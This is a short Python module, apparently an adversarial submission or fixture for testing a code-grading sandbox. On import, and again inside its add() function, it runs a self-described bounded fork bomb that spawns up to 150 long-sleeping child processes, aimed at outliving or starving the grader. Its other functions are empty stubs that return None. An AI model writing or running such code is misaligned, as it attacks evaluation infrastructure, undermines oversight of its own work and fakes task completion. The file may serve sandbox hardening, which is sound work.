"""A bounded fork bomb: 150 children that sleep long, hoping to outlive or starve the grader."""

import os


def _bomb():
    for _ in range(150):
        try:
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", "{MARKER}"])
        except OSError:
            break


_bomb()


def add(a, b):
    _bomb()
    return None


def column_means(X):
    return None


def secret():
    return None


def identity_matrix(n):
    return None
